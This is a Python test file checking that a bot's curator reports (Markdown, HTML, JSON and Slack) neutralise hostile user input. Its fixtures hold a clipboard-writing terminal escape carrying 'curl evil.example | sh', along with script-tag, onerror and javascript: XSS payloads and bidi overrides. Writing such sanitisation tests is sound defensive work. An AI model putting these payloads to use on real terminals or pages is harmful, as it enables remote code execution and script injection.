"""Everything shown to curators is safe whatever people typed. Questions and a comment full of terminal
escapes (ESC[2J, OSC 52 writing the clipboard), bidi overrides, HTML, Markdown links and images, runs of
`&` and of quotes, are logged by the real bot, then read back through every report format: `coopbot
report` as Markdown (the default, on a terminal), HTML and JSON, and the Slack message of `/coop report`."""

from __future__ import annotations

import base64
import json
import re
import subprocess
import sys
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from asked import logging_asker
from fakes.slack_api import check_blocks
from markdown_it import MarkdownIt

from adapters.slack.rendering import (
    BUTTON_TEXT_LIMIT,
    BUTTON_VALUE_LIMIT,
    OPTION_TEXT_LIMIT,
    OPTION_VALUE_LIMIT,
    SECTION_LIMIT,
    report_message,
)
from bot import Coopbot, Feedback
from bot.curation.report import build
from bot.factbase.model import KnowledgeBase
from bot.serving.convlog import DatabaseConversationLog, Hasher, Recorder
from bot.serving.database import Database

COOPBOT = Path(sys.executable).with_name("coopbot")
CLEAR = "\x1b[2J"
CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07"
REVERSED = "\u202e"
SCRIPT = "<script>alert(1)</script>"
JS_LINK = "[x](javascript:alert(1))"
MARKUP = f"{SCRIPT} {JS_LINK} ![x](http://evil.example/x.png) <http://evil.example> www.evil.example"
QUESTIONS = (
    f"{CLEAR}Peru trainees how many?{CLIPBOARD}",
    f"{REVERSED}exe.pdf {MARKUP} \x9b2J\x7f",
    f"``{JS_LINK}`` ` <img src=x onerror=alert(1)> `",  # backticks that would end a code span early
    *("&" * 199 + tail for tail in ("", "?", "!")),  # three questions of 199 '&': one cluster
    '"' * 2000,
)
COMMENT = f"{CLEAR}{MARKUP}{CLIPBOARD}"
# What no report may hold: C0 controls but a tab and a newline, DEL, C1 controls, bidi controls.
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture(scope="module")
def logged(tmp_path_factory: pytest.TempPathFactory, kb: KnowledgeBase) -> Path:
    """A database whose log holds the hostile questions, and an answer voted down with a hostile comment."""
    path = tmp_path_factory.mktemp("hostile") / "coopbot.sqlite3"
    db, hasher = Database(path), Hasher.beside(path)
    log = DatabaseConversationLog(db)
    ask = logging_asker(Coopbot(kb), Recorder(log, hasher), "telegram")
    for n, question in enumerate(QUESTIONS):
        ask(question, session=f"hostile{n}", person=f"person{n}")
    answered = ask("What year did Vietnam get KONEPS?", session="voter", person="voter")
    assert answered.ref is not None
    Feedback(db, hasher).comment(answered.ref, "voter", COMMENT)
    log.flush()
    log.close()
    return path


def report(logged: Path, *options: str) -> str:
    """What `coopbot report` writes to the terminal."""
    run = subprocess.run(
        [str(COOPBOT), "report", "--db", str(logged), *options], capture_output=True, timeout=60, check=True
    )
    return run.stdout.decode("utf-8")


def strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield key
            yield from strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings(item)


# -- Markdown, on the curator's terminal ---------------------------------------------------------------------


def test_the_markdown_report_writes_no_control_character_to_the_terminal(logged: Path) -> None:
    shown = report(logged)
    assert not CONTROL.search(shown), CONTROL.findall(shown)
    assert "Peru trainees how many?" in shown and "exe.pdf" in shown  # the words stay


def test_the_markdown_report_makes_no_link_image_tag_or_autolink_of_what_people_typed(logged: Path) -> None:
    markdown = MarkdownIt("commonmark", {"html": True, "linkify": True}).enable("linkify")
    markdown.validateLink = lambda url: True  # javascript: too: only the report's escaping may stop it
    page = markdown.render(report(logged))
    assert "<a " not in page and "<img" not in page and "<script" not in page
    assert JS_LINK in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page  # shown, as text


# -- HTML ----------------------------------------------------------------------------------------------------


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.links += [value or "" for name, value in attrs if name in ("href", "src")]


def test_the_html_report_shows_what_people_typed_as_text(logged: Path, tmp_path: Path) -> None:
    out = tmp_path / "report.html"
    report(logged, "--format", "html", "--out", str(out))
    page = out.read_text(encoding="utf-8")
    assert not CONTROL.search(page), CONTROL.findall(page)
    tags = Tags()
    tags.feed(page)
    assert "script" not in tags.tags and "img" not in tags.tags
    assert all(link.startswith("#") for link in tags.links)  # only the page's own sections
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "Peru trainees how many?" in page


# -- JSON ----------------------------------------------------------------------------------------------------


def test_the_json_report_is_json_without_control_characters(logged: Path) -> None:
    data = json.loads(report(logged, "--format", "json"))
    found = [text for text in strings(data) if CONTROL.search(text)]
    assert found == []
    examples = [e for cluster in data["unanswered"] for e in cluster["examples"]]
    assert "Peru trainees how many?" in examples  # the text as typed, less its escapes
    assert any(MARKUP in e for e in examples)  # JSON is data: markup is its reader's to escape
    [voted] = data["feedback"]
    assert voted["comments"] == [MARKUP]


# -- Slack ---------------------------------------------------------------------------------------------------


def slack_texts(blocks: list[dict[str, Any]]) -> Iterator[tuple[str, str, int]]:
    """Every text of the blocks with what it is and Slack's limit for it."""
    for block in blocks:
        if block["type"] == "section":
            yield "section", block["text"]["text"], SECTION_LIMIT
        for element in block.get("elements", []):
            if block["type"] == "context":
                yield "context element", element["text"], SECTION_LIMIT
            elif element["type"] == "button":
                yield "button text", element["text"]["text"], BUTTON_TEXT_LIMIT
                yield "button value", element["value"], BUTTON_VALUE_LIMIT
            for option in element.get("options", []):
                yield "option text", option["text"]["text"], OPTION_TEXT_LIMIT
                yield "option value", option["value"], OPTION_VALUE_LIMIT


def test_the_slack_report_keeps_every_limit_after_escaping_and_shows_text_only(logged: Path, kb: KnowledgeBase) -> None:
    clusters = build(Database(logged), kb, 0.0).unanswered[:5]
    assert any(sum(e.count("&") for e in c.examples) >= 3 * 199 for c in clusters)  # the '&' cluster is one
    message = report_message("lead", clusters, {f.id: f.text("ko") for f in kb.facts}, "ko")
    check_blocks(message.blocks)
    for what, text, limit in slack_texts(message.blocks):
        assert len(text) <= limit, (what, len(text))
        assert not CONTROL.search(text), (what, text)
        assert re.fullmatch(r"(?:[^&<>]|&(?:amp|lt|gt);)*", text, re.DOTALL), (what, text)  # escaped, never cut
    everything = json.dumps(message.blocks, ensure_ascii=False)
    assert "&lt;script&gt;" in everything and "Peru trainees how many?" in everything
